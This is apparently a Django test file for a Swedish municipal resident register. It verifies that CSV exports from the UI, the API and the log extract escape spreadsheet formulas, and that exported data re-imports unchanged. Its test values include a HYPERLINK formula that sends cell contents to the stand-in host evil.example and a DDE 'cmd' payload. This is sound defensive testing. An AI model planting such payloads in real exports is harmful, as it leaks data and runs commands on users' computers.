"""The register's CSV exports (UI, API, log extract) neutralise formulas in residents' free text and purposes."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.test import Client
from django.urls import reverse

from beredd.register.tests.helpers import make_person
from beredd.register.tests.test_api import bearer

EVIL = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'


def _values(content: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row]


def test_the_ui_and_api_exports_write_a_formula_in_a_name_as_text(world: Any) -> None:
    make_person(world.gavle, world.unit_a, first_name=EVIL, last_name="-1+cmd|' /C calc'!A0", phone="+46 70 123 45 67")
    client = Client()
    client.force_login(world.mas)
    ui = client.post(reverse("register:export"), {"purpose": "Kontroll av exporten", "confirm": "on"})
    api = Client().get("/api/v1/register/export", **bearer(world.mas))
    for response in (ui, api):
        assert response.status_code == 200
        values = _values(response.content)
        assert "'" + EVIL in values and EVIL not in values
        assert "'-1+cmd|' /C calc'!A0" in values
        assert "+46 70 123 45 67" in values  # a phone number is no formula


def test_the_log_extract_writes_a_formula_in_a_purpose_as_text(world: Any) -> None:
    person = make_person(world.gavle, world.unit_a)
    client = Client()
    client.force_login(world.mas)
    assert client.post(reverse("register:export"), {"purpose": EVIL[:200], "confirm": "on"}).status_code == 200
    extract = client.get(reverse("register:log-extract", args=[person.pk, "csv"]))
    assert extract.status_code == 200
    values = _values(extract.content)
    assert "'" + EVIL in values and EVIL not in values


def test_an_exported_register_re_imports_with_the_names_unchanged(world: Any) -> None:
    from beredd.register import services
    from beredd.register.models import Person

    person = make_person(world.gavle, world.unit_a, first_name=EVIL, last_name="-Berg", legal_note="@notering")
    text = services.person_export_csv(user=world.mas, kommun=world.gavle, purpose="Flytt till nytt system")
    assert "'" + EVIL.replace('"', '""') in text
    rows = list(csv.reader(io.StringIO(text)))
    keep = [i for i, name in enumerate(rows[0]) if name != "status"]  # the one export column the import does not take
    again = io.StringIO()
    csv.writer(again).writerows([[row[i] for i in keep] for row in rows])
    preview = services.import_preview(
        actor=world.mas, kommun=world.gavle, filename="export.csv", content=again.getvalue().encode("utf-8")
    )
    assert preview.ok, preview
    services.import_commit(actor=world.mas, kommun=world.gavle, batch_id=preview.batch_id, on_duplicate="update")
    person.refresh_from_db()
    assert (person.first_name, person.last_name, person.legal_note) == (EVIL, "-Berg", "@notering")
    assert Person.objects.count() == 1
